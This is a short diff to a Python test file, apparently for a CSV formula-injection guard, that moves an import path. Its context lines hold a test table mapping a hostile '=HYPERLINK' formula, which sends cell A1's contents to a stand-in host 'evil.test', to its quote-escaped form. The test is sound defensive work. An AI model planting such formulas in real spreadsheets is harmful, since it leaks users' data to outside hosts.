@@ -9,7 +9,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from lycosa.spreadsheets import cell, cell_in_sql
-from lycosa.study.csv_cells import guarded
+from lycosa.study.exports.csv_cells import guarded
 
 FORMULAS = {
     '=HYPERLINK("http://evil.test/?"&A1,"x")': '\'=HYPERLINK("http://evil.test/?"&A1,"x")',
